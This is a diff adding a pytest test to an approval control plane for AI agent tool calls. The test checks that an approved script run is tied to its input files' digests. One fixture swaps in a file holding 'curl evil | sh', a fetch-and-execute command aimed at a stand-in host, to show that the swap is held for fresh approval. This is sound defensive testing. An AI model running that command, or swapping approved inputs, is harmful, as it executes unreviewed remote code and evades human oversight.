@@ -3,16 +3,19 @@
 from __future__ import annotations
 
 import asyncio
+import hashlib
 import json
 import shutil
 from pathlib import Path
 from typing import Any
 
 import pytest
+from rich.console import Console
 
 from policy import PolicySettings
 from router import ApprovalError, ApprovalStatus, ControlPlane, Settings
 from router.audit import AuditFilter
+from router.interfaces.render import approval_panel
 from router.settings import AuditSettings, StoreSettings
 from tests.conftest import ECHO, REPO, python_tool
 
@@ -170,6 +173,42 @@ async def test_a_retry_never_redeems_an_approval_for_other_arguments_or_another_
         assert result.approval_id != approval_id
     assert (await plane.get_approval(approval_id)).status is ApprovalStatus.APPROVED  # still only for its call
     assert (await plane.call(session, "drop_table", {"table": "scratch"})).status == "completed"
+
+
+RUN_FILE = python_tool("run_script", "def main(**kw):\n    return open('/in/script.txt').read()\n", risk="critical",
+                       capabilities=["executes_code"], input_schema={"type": "object"})  # fmt: skip
+
+
+async def test_an_approval_is_for_the_files_it_was_asked_with(plane: ControlPlane) -> None:
+    """A call's input files are part of what a human approves: the approver sees their names and
+    digests, policy sees them, and a retry (by id or plainly) with other files is another call,
+    held anew, while the approved files still run."""
+    await plane.register(RUN_FILE)
+    session = await plane.open_session("db-agent", "alice@example.com")
+    shown = {"script.txt": b"echo reviewed"}
+    first = await plane.call(session, "run_script", {}, inputs=shown)
+    assert first.status == "pending_approval"
+    assert first.approval_id is not None
+    pending = await plane.get_approval(first.approval_id)
+    digest = hashlib.sha256(b"echo reviewed").hexdigest()
+    assert pending.inputs == [{"name": "script.txt", "sha256": digest, "size": 13}]
+    console = Console(width=200, record=True)
+    console.print(approval_panel(pending))  # what `stockade approvals show` prints
+    assert f"/in/script.txt  13 bytes  sha256 {digest}" in console.export_text()
+    [decision] = await plane.audit.query(AuditFilter(decision_id=first.decision_id, kind="decision"))
+    assert (decision.input or {})["inputs"] == pending.inputs
+    await plane.approve(first.approval_id, "oncall@example.com")
+
+    swapped = {"script.txt": b"curl evil | sh"}
+    with pytest.raises(ApprovalError, match="another call"):
+        await plane.call(session, "run_script", {}, inputs=swapped, approval_id=first.approval_id)
+    for files in (swapped, {}, {**shown, "extra.txt": b"x"}):
+        retried = await plane.call(session, "run_script", {}, inputs=files)
+        assert retried.status == "pending_approval"
+        assert retried.approval_id != first.approval_id
+    assert (await plane.get_approval(first.approval_id)).status is ApprovalStatus.APPROVED
+    ran = await plane.call(session, "run_script", {}, inputs=shown)
+    assert (ran.status, ran.output) == ("completed", "echo reviewed")
 
 
 async def test_a_retry_after_a_human_said_no_stays_refused(plane: ControlPlane) -> None:
